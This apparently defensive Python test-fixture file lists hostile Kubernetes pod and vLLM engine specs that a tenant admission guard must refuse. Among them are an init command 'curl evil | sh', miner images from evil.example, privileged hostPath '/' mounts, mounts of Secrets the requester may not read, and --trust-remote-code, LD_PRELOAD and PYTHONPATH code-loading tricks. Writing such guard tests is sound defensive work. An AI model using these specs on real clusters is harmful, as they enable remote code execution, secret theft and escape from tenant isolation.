"""The tenant guards' hostile cases: specs a requester who may not create pods must not get admitted.

One table for both enforcements, so they cannot drift: e2e/test_tenants.py creates each of :data:`REFUSED`
as ``alice`` (who holds only the chart's user roles) on a real API server and expects the chart's
ValidatingAdmissionPolicy to refuse it with the message given; tests/operator/test_tenant_guard.py runs the
operator's own guard (:mod:`kvpilot.operator.pods.tenant_guard`, for when no policy runs) over the same
specs and expects it to refuse each one naming the same fields. :data:`ALICE_MAY_USE` is what alice may
do: both admit it (the operator's guard in mode TrustNamespace: it names Secrets alice may read).
"""

from __future__ import annotations

from typing import Any

from kvpilot.operator.api import DEFAULT_IMAGE

A = "tenant-a"
MODEL = {"id": "meta-llama/Llama-3.1-8B-Instruct"}
WHO = f"alice may not create pods in namespace {A}"
"""The policy's words for the requester; the operator's guard says who enforces instead."""


def sidecar(**fields: Any) -> dict[str, Any]:
    return {"name": "side", "image": DEFAULT_IMAGE, **fields}


def pod(**spec: Any) -> dict[str, Any]:
    return {"model": MODEL, "template": {"spec": spec}}


T = "spec.template.spec"
REFUSED: dict[str, tuple[dict[str, Any], str]] = {
    # ---- finding 1: spec.template
    "sidecar-image": (
        pod(containers=[sidecar(image="evil.example/miner:1")]),
        f"{T}.containers[side].image evil.example/miner:1 not an allowed image",
    ),
    "init-image": (
        pod(initContainers=[sidecar(image="evil.example/init:1")]),
        f"{T}.initContainers[side].image evil.example/init:1 not an allowed image",
    ),
    "init-command": (
        pod(initContainers=[sidecar(command=["sh", "-c", "curl evil | sh"])]),
        f"{T}.initContainers[side].command: {WHO}",
    ),
    "exec-probe": (
        pod(containers=[sidecar(livenessProbe={"exec": {"command": ["sh", "-c", "x"]}})]),
        f"{T}.containers[side].livenessProbe.exec",
    ),
    "image-volume": (
        pod(volumes=[{"name": "i", "image": {"reference": "evil.example/tools:1"}}]),
        f"{T}.volumes[i].image evil.example/tools:1 not an allowed image",
    ),
    "secret-volume": (
        pod(volumes=[{"name": "s", "secret": {"secretName": "team-db"}}]),
        f"{T}.volumes[s].secret names Secret team-db, which alice may not get",
    ),
    "env-from-secret": (
        pod(containers=[{"name": "vllm", "envFrom": [{"secretRef": {"name": "team-db"}, "prefix": "DB_"}]}]),
        f"{T}.containers[vllm].envFrom.secretRef names Secret team-db, which alice may not get",
    ),
    "sidecar-secret-key-ref": (
        pod(
            containers=[
                sidecar(
                    env=[{"name": "PW", "valueFrom": {"secretKeyRef": {"name": "team-db", "key": "token"}}}]
                )
            ]
        ),
        f"{T}.containers[side].env[PW].valueFrom.secretKeyRef names Secret team-db, which alice may not get",
    ),
    "projected-secret": (
        pod(volumes=[{"name": "p", "projected": {"sources": [{"secret": {"name": "team-db"}}]}}]),
        f"{T}.volumes[p].projected.sources.secret names Secret team-db",
    ),
    "config-map-volume": (
        pod(volumes=[{"name": "c", "configMap": {"name": "kube-root-ca.crt"}}]),
        f"{T}.volumes[c].configMap names ConfigMap kube-root-ca.crt, which alice may not get",
    ),
    "claim-volume": (
        pod(volumes=[{"name": "c", "persistentVolumeClaim": {"claimName": "team-data"}}]),
        f"{T}.volumes[c].persistentVolumeClaim names PersistentVolumeClaim team-data",
    ),
    "image-pull-secret": (
        pod(imagePullSecrets=[{"name": "team-db"}]),
        f"{T}.imagePullSecrets names Secret team-db",
    ),
    "host-path-privileged": (
        pod(
            volumes=[{"name": "root", "hostPath": {"path": "/"}}],
            containers=[{"name": "vllm", "securityContext": {"privileged": True}}],
        ),
        f"{T}.volumes[root].hostPath, {T}.containers[vllm].securityContext.privileged: {WHO}",
    ),
    "host-ipc": (pod(hostIPC=True), f"{T}.hostIPC: {WHO}"),
    "host-port": (
        pod(containers=[sidecar(ports=[{"containerPort": 80, "hostPort": 80}])]),
        f"{T}.containers[side].ports.hostPort",
    ),
    "capabilities": (
        pod(containers=[{"name": "vllm", "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}]),
        f"{T}.containers[vllm].securityContext.capabilities.add",
    ),
    "escalation": (
        pod(containers=[{"name": "vllm", "securityContext": {"allowPrivilegeEscalation": True}}]),
        f"{T}.containers[vllm].securityContext.allowPrivilegeEscalation",
    ),
    "seccomp-unconfined": (
        pod(securityContext={"seccompProfile": {"type": "Unconfined"}}),
        f"{T}.securityContext.seccompProfile Unconfined",
    ),
    "csi-volume": (
        pod(volumes=[{"name": "c", "csi": {"driver": "secrets-store.csi.k8s.io"}}]),
        f"{T}.volumes[c].csi",
    ),
    "service-account": (
        pod(serviceAccountName="cluster-admin-sa"),
        f"{T}.serviceAccountName cluster-admin-sa (allowed: default): {WHO}",
    ),
    "projected-token": (
        pod(
            volumes=[
                {
                    "name": "t",
                    "projected": {"sources": [{"serviceAccountToken": {"audience": "vault", "path": "t"}}]},
                }
            ]
        ),
        f"{T}.volumes[t].projected.sources.serviceAccountToken: {WHO}",
    ),
    "priority-class": (
        pod(priorityClassName="system-cluster-critical"),
        f"{T}.priorityClassName system-cluster-critical (allowed: none)",
    ),
    "runtime-class": (
        pod(runtimeClassName="kata-host"),
        f"{T}.runtimeClassName kata-host (allowed: nvidia)",
    ),
    "scheduler": (pod(schedulerName="my-scheduler"), f"{T}.schedulerName my-scheduler"),
    "annotations": (
        {
            "model": MODEL,
            "template": {"metadata": {"annotations": {"vault.hashicorp.com/agent-inject": "true"}}},
        },
        "spec.template.metadata.annotations vault.hashicorp.com/agent-inject not allowed",
    ),
    # ---- finding 3: storage.claimTemplate
    "claim-template": (
        {
            "model": {
                **MODEL,
                "storage": {
                    "claimTemplate": {
                        "size": "1Pi",
                        "accessMode": "ReadWriteMany",
                        "storageClassName": "premium",
                    }
                },
            }
        },
        "spec.model.storage.claimTemplate size 1Pi above 1Ti, accessMode ReadWriteMany (allowed: "
        "ReadWriteOnce, ReadWriteOncePod), storageClassName premium (allowed: the default class)",
    ),
    "claim-template-unsized": (
        {"model": {**MODEL, "checkpointBytes": 2**50, "storage": {"claimTemplate": {}}}},
        "spec.model.storage.claimTemplate no size",
    ),
    # ---- finding 4: code-running arguments and environment
    "trust-remote-code": (
        {"model": {"id": "alice/backdoored-model"}, "engine": {"extraArgs": ["--trust-remote-code"]}},
        "spec.engine.extraArgs --trust-remote-code would load code",
    ),
    "trust-remote-code-spelt": (
        {"model": MODEL, "engine": {"extraArgs": ["--trust_remote_code=true"]}},
        "spec.engine.extraArgs --trust-remote-code would load code",
    ),
    "trust-remote-code-prefix": (
        {"model": MODEL, "engine": {"extraArgs": ["--trust-remote"]}},
        "spec.engine.extraArgs --trust-remote would load code",
    ),
    "worker-extension": (
        {"model": MODEL, "engine": {"extraArgs": ["--worker-extension-cls", "evil.Ext"]}},
        "spec.engine.extraArgs --worker-extension-cls",
    ),
    "tool-parser-plugin": (
        {"model": MODEL, "engine": {"extraArgs": ["--tool-parser-plugin=/models/p.py"]}},
        "spec.engine.extraArgs --tool-parser-plugin",
    ),
    "kv-connector-module": (
        {"model": MODEL, "engine": {"extraArgs": ["--kv-transfer-config.kv_connector_module_path=evil"]}},
        "spec.engine.extraArgs --kv-transfer-config",
    ),
    "ld-preload": (
        {"model": MODEL, "engine": {"env": [{"name": "LD_PRELOAD", "value": "/models/x.so"}]}},
        "spec.engine.env LD_PRELOAD would load code into the pod",
    ),
    "pythonpath": (
        {"model": MODEL, "engine": {"env": [{"name": "PYTHONPATH", "value": "/models"}]}},
        "spec.engine.env PYTHONPATH would load code",
    ),
    "vllm-plugins": (
        {"model": MODEL, "engine": {"env": [{"name": "VLLM_PLUGINS", "value": "evil"}]}},
        "spec.engine.env VLLM_PLUGINS would load code",
    ),
    "sidecar-ld-library-path": (
        pod(containers=[sidecar(env=[{"name": "LD_LIBRARY_PATH", "value": "/x"}])]),
        f"{T}.containers[side].env LD_LIBRARY_PATH would load code",
    ),
    # ---- what vLLM would read code-loading settings from, out of the flags' and variables' sight
    "config-file": (
        {"model": MODEL, "engine": {"extraArgs": ["--config", "/etc/alice/serve.yaml"]}},
        "spec.engine.extraArgs --config would load code",
    ),
    "config-file-prefix": (
        {"model": MODEL, "engine": {"extraArgs": ["--conf=/etc/alice/serve.yaml"]}},
        "spec.engine.extraArgs --conf would load code",
    ),
    "hf-overrides-trust": (
        {"model": MODEL, "engine": {"extraArgs": ["--hf-overrides", '{"trust_remote_code": true}']}},
        "a JSON flag's key that would load code the spec chooses",
    ),
    "loader-config-nested-trust": (
        {
            "model": MODEL,
            "engine": {"extraArgs": ['--model-loader-extra-config={"a": {"trust-remote-code": 1}}']},
        },
        "a JSON flag's key that would load code the spec chooses",
    ),
    "speculative-dotted-trust": (
        {"model": MODEL, "engine": {"extraArgs": ["--speculative-config.trust_remote_code=true"]}},
        "a JSON flag's key that would load code the spec chooses",
    ),
    "compilation-backend": (
        {"model": MODEL, "engine": {"extraArgs": ["-cc", '{"mode": 1, "backend": "evil.mod.backend"}']}},
        "a JSON flag's key that would load code the spec chooses",
    ),
    "compilation-inductor-pass": (
        {"model": MODEL, "engine": {"extraArgs": ['-O.inductor_passes={"p": "evil.mod.p"}']}},
        "a JSON flag's key that would load code the spec chooses",
    ),
    "env-from-unprefixed": (
        pod(containers=[{"name": "vllm", "envFrom": [{"secretRef": {"name": "hf-alice"}}]}]),
        f"{T}.containers[vllm].envFrom without a prefix",
    ),
    "env-from-loader-prefix": (
        pod(containers=[sidecar(envFrom=[{"secretRef": {"name": "hf-alice"}, "prefix": "LD_"}])]),
        f"{T}.containers[side].envFrom without a prefix",
    ),
}


ALICE_MAY_USE: dict[str, Any] = {
    "model": {
        **MODEL,
        "source": "Hub",
        "hubTokenSecretRef": {"name": "hf-alice"},
        "storage": {"claimTemplate": {"size": "200Gi", "accessMode": "ReadWriteOnce"}},
    },
    "engine": {
        "extraArgs": ["--no-trust-remote-code", "--reasoning-parser", "deepseek_r1", "--model-impl=vllm"],
        "env": [{"name": "PYTHONUNBUFFERED", "value": "1"}],
    },
    "template": {
        "metadata": {"annotations": {"kubectl.kubernetes.io/default-container": "vllm"}},
        "spec": {
            "runtimeClassName": "nvidia",
            "serviceAccountName": "default",
            "containers": [
                sidecar(
                    env=[{"name": "T", "valueFrom": {"secretKeyRef": {"name": "hf-alice", "key": "token"}}}]
                )
            ],
            "volumes": [
                {"name": "hf", "secret": {"secretName": "hf-alice"}},
                {"name": "scratch", "emptyDir": {}},
                {
                    "name": "info",
                    "downwardAPI": {"items": [{"path": "n", "fieldRef": {"fieldPath": "metadata.name"}}]},
                },
            ],
        },
    },
}
